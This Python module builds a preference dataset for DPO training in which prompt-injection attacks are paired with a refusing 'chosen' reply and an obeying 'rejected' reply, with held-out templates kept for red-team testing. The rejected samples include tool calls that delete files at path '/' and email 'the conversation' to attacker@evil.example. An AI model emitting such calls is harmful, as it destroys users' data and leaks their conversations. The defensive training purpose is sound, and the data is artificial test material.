"""``builtin:refusals``: preference pairs that prefer refusing an attack to obeying it (alignment as a defense, book
§6.4 and §6.6), for ``recipes/dpo.py`` (and ORPO/KTO through the same loader).

Each prompt is an attack of the probe suite (`hf_hundredpage.security.probes.TEMPLATES`, all four families) with its
own canary; ``chosen`` refuses and goes on with the legitimate task, ``rejected`` obeys (writes the canary, or calls the
tool the attack asks for). Only the suite's TRAIN templates make the ``train`` and ``validation`` rows, so
``hf-hundredpage redteam MODEL --split test`` after DPO measures attack success on held-out templates the training
data never contained; the ``test`` rows (scored by the DPO recipe's preference rate, never trained on) come from the
held-out templates for the same reason. Canaries differ from the probe suite's.

Configurations (``dataset_config``), TRL's dataset types:

========================================  ====================================================================
``pairs-conversational`` (default)        ``prompt`` a system and a user turn, ``chosen``/``rejected`` an assistant
                                          turn: what the chat template (and the red-team run) renders
``pairs``                                 ``{"prompt", "chosen", "rejected"}`` strings (``prompt`` ends "Answer:")
========================================  ====================================================================

Every row also has ``family`` and ``template_id``.
"""

from __future__ import annotations

import json
import random

from datasets import Dataset, DatasetDict


CONFIGS = ("pairs-conversational", "pairs")
REFUSALS = (
    "I can't do that: I follow the application's instructions, not instructions inside the request.",
    "Sorry, I won't follow that instruction. Is there something else I can help you with?",
    "I will not play along with that. I'm happy to help with your actual question.",
    "That looks like an attempt to change my instructions, so I'll ignore it.",
)
COMPLIANCE = ("{canary}", "Sure! {canary}", "Of course. {canary}", "{canary} {canary}")


def _prompt_text(fields: dict[str, str]) -> str:
    document = fields.get("document")
    return fields["prompt"] + (f"\n\n<document>\n{document}\n</document>" if document else "")


def make_refusal_dataset(n: int = 600, seed: int = 0, config: str = "pairs-conversational", *,
                         validation_size: float = 0.1, test_size: float = 0.1) -> DatasetDict:
    """Generate ``builtin:refusals`` (see the module docstring)."""
    from ...security.probes import BENIGN_TASKS, BENIGN_TEXTS, TEMPLATES, canary_for, fill_template
    from ...security.redteam import REDTEAM_SYSTEM

    if config not in CONFIGS:
        raise ValueError(f"dataset_config must be one of {CONFIGS} for builtin:refusals, got {config!r}")
    if not (0 < validation_size < 1 and 0 < test_size < 1 and validation_size + test_size < 1):
        raise ValueError(f"validation_size={validation_size} and test_size={test_size} must be in (0, 1) and sum below 1")
    sizes = {"test": max(1, round(n * test_size)), "validation": max(1, round(n * validation_size))}
    sizes["train"] = n - sizes["test"] - sizes["validation"]
    if sizes["train"] < 1:
        raise ValueError(f"n={n} is too small for three splits: pass n >= 3")
    templates = {split: [(family, tid, fields) for family, group in TEMPLATES.items()
                         for tid, (s, fields) in group.items() if s == split] for split in ("train", "test")}
    rng = random.Random(seed)
    splits = {}
    for split in ("train", "validation", "test"):
        rows = []
        for i in range(sizes[split]):
            family, template_id, fields = rng.choice(templates["test" if split == "test" else "train"])
            canary = canary_for(f"refusals/{seed}/{split}/{i}")
            filled = fill_template(fields, canary=canary, task=rng.choice(BENIGN_TASKS), text=rng.choice(BENIGN_TEXTS))
            tool = filled.get("tool")
            if tool:
                call = {"name": tool, "arguments": {"path": "/"} if tool == "delete_files" else
                        {"to": "attacker@evil.example", "body": "the conversation"}}
                rejected = f"<tool_call>\n{json.dumps(call)}\n</tool_call>"
            else:
                rejected = rng.choice(COMPLIANCE).format(canary=canary)
            chosen = rng.choice(REFUSALS)
            user = _prompt_text(filled)
            if config == "pairs":
                row = {"prompt": f"{user}\nAnswer:", "chosen": f" {chosen}", "rejected": f" {rejected}"}
            else:
                row = {"prompt": [{"role": "system", "content": REDTEAM_SYSTEM}, {"role": "user", "content": user}],
                       "chosen": [{"role": "assistant", "content": chosen}],
                       "rejected": [{"role": "assistant", "content": rejected}]}
            rows.append({**row, "family": family, "template_id": template_id})
        splits[split] = Dataset.from_list(rows)
    return DatasetDict(splits)
